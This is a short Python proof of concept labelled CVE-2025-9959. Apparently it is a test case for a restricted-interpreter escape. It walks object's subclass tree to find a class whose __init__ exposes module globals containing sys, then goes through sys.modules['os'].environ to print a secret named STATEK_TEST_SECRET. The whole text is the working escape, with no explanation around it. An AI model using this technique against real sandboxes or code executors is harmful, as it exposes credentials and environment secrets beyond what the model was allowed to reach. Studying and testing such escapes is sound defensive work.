# CVE-2025-9959: any subclass whose __init__ is Python code and whose module imported sys.
def every(cls):
    for sub in type.__subclasses__(cls):
        yield sub
        yield from every(sub)
for cls in every(object):
    init = cls.__dict__.get("__init__")
    if hasattr(init, "__globals__") and "sys" in init.__globals__:
        print(init.__globals__["sys"].modules["os"].environ["STATEK_TEST_SECRET"])
        break
